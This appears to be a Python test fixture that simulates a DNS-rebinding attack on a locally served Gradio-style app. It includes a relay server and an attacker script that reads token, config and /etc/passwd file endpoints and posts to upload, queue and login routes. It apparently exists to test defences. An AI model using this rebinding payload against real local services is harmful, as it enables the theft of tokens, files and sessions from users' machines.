"""A name that first leads to an attacker's page and then to another server, as after DNS rebinding:
the browser sees one origin throughout.
"""

from __future__ import annotations

import socket
import socketserver
import threading
from collections.abc import Iterator
from contextlib import contextmanager

NAME = "rebound.invalid"
RULES = f"--host-resolver-rules=MAP {NAME} 127.0.0.1"
PAUSE = 20.0  # seconds without a byte after which a connection ends
FIRST = b"<!doctype html><title>attacker</title><body></body>"
# The attacker's script, run in the page that the name showed first: what it can read and write
ATTACK = """async () => {
    const got = [];
    for (const path of ['/', '/config', '/gradio_api/info', '/gradio_api/token', '/theme.css',
            '/gradio_api/file=/etc/passwd', '/gradio_api/queue/data?session_hash=a']) {
        const limit = AbortSignal.timeout(5000);
        try {
            const answer = await fetch(path, {signal: limit});
            got.push([answer.status, await answer.text()]);
        } catch { }
    }
    const body = JSON.stringify({fn_index: 0, data: [], session_hash: 'a'});
    const headers = {'content-type': 'application/json'};
    for (const path of ['/gradio_api/queue/join', '/gradio_api/upload', '/login']) {
        const answer = await fetch(path, {method: 'POST', headers, body});
        got.push([answer.status, await answer.text()]);
    }
    return got;
}"""


class Rebinding(socketserver.ThreadingTCPServer):
    """Serves the attacker's page until `rebound`, then passes connections on to `target`."""

    allow_reuse_address = True
    daemon_threads = True

    def __init__(self, target: int) -> None:
        super().__init__(("127.0.0.1", 0), _Connection)
        self.target, self.rebound = target, False

    @property
    def origin(self) -> str:
        return f"http://{NAME}:{self.server_address[1]}"


class _Connection(socketserver.BaseRequestHandler):
    server: Rebinding

    def handle(self) -> None:
        self.request.settimeout(PAUSE)
        try:
            if self.server.rebound:
                self._pass_on()
            else:
                self.request.recv(65_536)
                head = f"HTTP/1.1 200 OK\r\nContent-Length: {len(FIRST)}\r\nConnection: close\r\n"
                self.request.sendall(f"{head}Content-Type: text/html\r\n\r\n".encode() + FIRST)
        except OSError:
            pass  # the browser has gone

    def _pass_on(self) -> None:
        address = ("127.0.0.1", self.server.target)
        with socket.create_connection(address, PAUSE) as onward:
            back = threading.Thread(target=_pump, args=(onward, self.request), daemon=True)
            back.start()
            _pump(self.request, onward)
            back.join(PAUSE)


def _pump(source: socket.socket, sink: socket.socket) -> None:
    try:
        while piece := source.recv(65_536):
            sink.sendall(piece)
        sink.shutdown(socket.SHUT_WR)
    except OSError:
        return


@contextmanager
def rebinding(target: int) -> Iterator[Rebinding]:
    """A Rebinding that is being served, before the name leads to target."""
    with Rebinding(target) as server:
        threading.Thread(target=server.serve_forever, daemon=True).start()
        try:
            yield server
        finally:
            server.shutdown()
